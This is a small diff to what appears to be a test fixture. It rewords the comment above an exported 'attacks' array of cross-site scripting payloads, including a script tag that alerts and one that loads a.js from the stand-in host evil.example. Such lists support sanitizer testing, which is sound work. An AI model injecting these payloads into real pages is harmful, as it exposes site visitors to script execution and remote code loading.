@@ -1,4 +1,4 @@
-/** Texts that run something, or load from elsewhere, wherever they are taken for more than text. */
+/** Texts that run code or load foreign resources wherever they are not treated as plain text. */
 export const attacks = [
   '<script>alert(1)</script>',
   '<script src="https://evil.example/a.js"></script>',
